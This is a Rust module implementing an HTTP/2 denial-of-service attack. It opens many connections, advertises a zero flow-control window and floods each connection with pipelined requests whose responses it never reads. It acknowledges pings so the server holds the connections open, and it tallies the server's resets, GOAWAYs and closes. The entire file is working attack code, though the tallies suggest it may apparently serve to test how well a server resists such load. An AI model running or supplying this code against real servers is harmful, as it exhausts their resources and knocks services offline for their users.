//! Clients of HTTP/2 that ask for much and take none of it: the window of every stream is 0 (RFC 9113 §6.9.2).

use std::io::{self, ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::Place;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const ACK: u8 = 1;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 1 | 4;
/// SETTINGS_INITIAL_WINDOW_SIZE is 0.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// `:status: 200` by its index in HPACK's static table; no other status begins so.
const OK: u8 = 0x88;

/// What came of an attack so far.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Outcome {
    /// Bytes that were sent to ask.
    pub sent: usize,
    /// Answers that began with 200.
    pub answered: usize,
    /// Answers that began with another status.
    pub refused: usize,
    /// Streams that the server reset.
    pub reset: usize,
    /// Connections that the server said good-bye to.
    pub goaway: usize,
    /// Connections that the server closed.
    pub closed: usize,
}

/// Asks for `streams` targets on each of `connections` and takes no answer, nor a refusal's body, until all
/// streams have been reset, their connection closed, or patience ends. `look` sees the outcome every 50 ms.
///
/// # Errors
///
/// If a connection cannot be opened or not be asked on.
pub fn attack(
    place: &Place,
    (connections, streams): (usize, usize),
    target: impl Fn(usize) -> String,
    patience: Duration,
    mut look: impl FnMut(&Outcome),
) -> io::Result<Outcome> {
    let (began, mut outcome) = (Instant::now(), Outcome::default());
    let mut open = Vec::with_capacity(connections);
    for connection in 0..connections {
        let mut asking = [PREFACE, &frame(SETTINGS, 0, 0, &NO_WINDOW)].concat();
        for stream in 0..streams {
            let block = request(&place.host, &target(connection * streams + stream));
            asking.extend(frame(HEADERS, WHOLE, 2 * stream as u32 + 1, &block));
        }
        outcome.sent += asking.len();
        let mut stream = TcpStream::connect(place.address)?;
        stream.write_all(&asking)?;
        stream.set_nonblocking(true)?;
        open.push(Reader { stream, unread: Vec::new() });
    }
    while began.elapsed() < patience {
        std::thread::sleep(Duration::from_millis(50));
        open.retain_mut(|reader| {
            let stays = reader.read(&mut outcome);
            outcome.closed += usize::from(!stays);
            stays
        });
        look(&outcome);
        if open.is_empty() || outcome.reset >= connections * streams {
            break;
        }
    }
    Ok(outcome)
}

/// A frame (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header block that asks for a target: names by their index in the static table, values as they are
/// (RFC 7541 §6.2.2). Neither is longer than 126 bytes.
fn request(host: &str, target: &str) -> Vec<u8> {
    let literal = |name: u8, value: &str| [&[name, value.len() as u8], value.as_bytes()].concat();
    [&[0x82, 0x86][..], &literal(1, host), &literal(4, target)].concat()
}

/// A connection and what has come of the next frame.
struct Reader {
    stream: TcpStream,
    unread: Vec<u8>,
}

impl Reader {
    /// Takes in what has come; false when the server has closed.
    fn read(&mut self, outcome: &mut Outcome) -> bool {
        let mut buffer = [0; 16 * 1024];
        let open = loop {
            match self.stream.read(&mut buffer) {
                Ok(0) => break false,
                Ok(got) => self.unread.extend_from_slice(&buffer[..got]),
                Err(error) => break error.kind() == ErrorKind::WouldBlock,
            }
        };
        while let Some(&[a, b, c, kind, flags, ..]) = self.unread.first_chunk::<9>() {
            let length = u32::from_be_bytes([0, a, b, c]) as usize;
            if self.unread.len() < 9 + length {
                break;
            }
            let frame: Vec<u8> = self.unread.drain(..9 + length).collect();
            self.take(kind, flags, &frame[9..], outcome);
        }
        open
    }

    fn take(&mut self, kind: u8, flags: u8, payload: &[u8], outcome: &mut Outcome) {
        match (kind, flags & ACK) {
            (HEADERS, _) if payload.first() == Some(&OK) => outcome.answered += 1,
            (HEADERS, _) => outcome.refused += 1,
            (RST_STREAM, _) => outcome.reset += 1,
            (GOAWAY, _) => outcome.goaway += 1,
            // A server that hears nothing would close sooner. Should it be closed already, the next look tells.
            (SETTINGS, 0) => drop(self.stream.write(&frame(SETTINGS, ACK, 0, &[]))),
            (PING, 0) => drop(self.stream.write(&frame(PING, ACK, 0, payload))),
            _ => {}
        }
    }
}
